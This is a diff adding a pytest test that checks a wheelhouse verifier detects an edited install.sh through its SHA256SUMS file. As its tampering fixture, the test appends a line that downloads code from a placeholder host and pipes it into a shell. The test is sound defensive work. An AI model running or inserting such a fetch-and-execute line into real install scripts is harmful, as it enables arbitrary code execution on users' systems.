@@ -206,6 +206,23 @@ def wheelhouse(kit: Path, tmp_path: Path) -> Path:
     return wh
 
 
+def test_wheelhouse_sums_are_checked(kit: Path, tmp_path: Path) -> None:
+    """A bare wheelhouse's own SHA256SUMS (install.sh checks it first): an edited install.sh,
+    which no manifest field covers, is named once (#11 review item 6); a wheelhouse without
+    one (an older bundler's) is a note."""
+    wh = _unpacked(kit, tmp_path) / "wheelhouse"
+    assert verify.verify([wh]).problems == []
+    script = wh / "install.sh"
+    script.write_text(script.read_text() + "curl http://example.invalid/x | sh\n")
+    with pytest.raises(CheckFailed) as exc:
+        verify.verify([wh])
+    assert exc.value.problems == ["install.sh: sha256 differs from SHA256SUMS"]
+    (wh / "SHA256SUMS").unlink()
+    script.write_text(script.read_text().replace("curl", "true"))
+    report = verify.verify([wh])
+    assert "SHA256SUMS: none (fetched by an older bundler)" in report.notes
+
+
 def test_wheel_for_another_python_is_named(wheelhouse: Path, tmp_path: Path) -> None:
     wheel = make_wheel(tmp_path / "w", "demolib", "1.2", tag="cp39-cp39-manylinux1_x86_64")
     shutil.copy(wheel, wheelhouse)
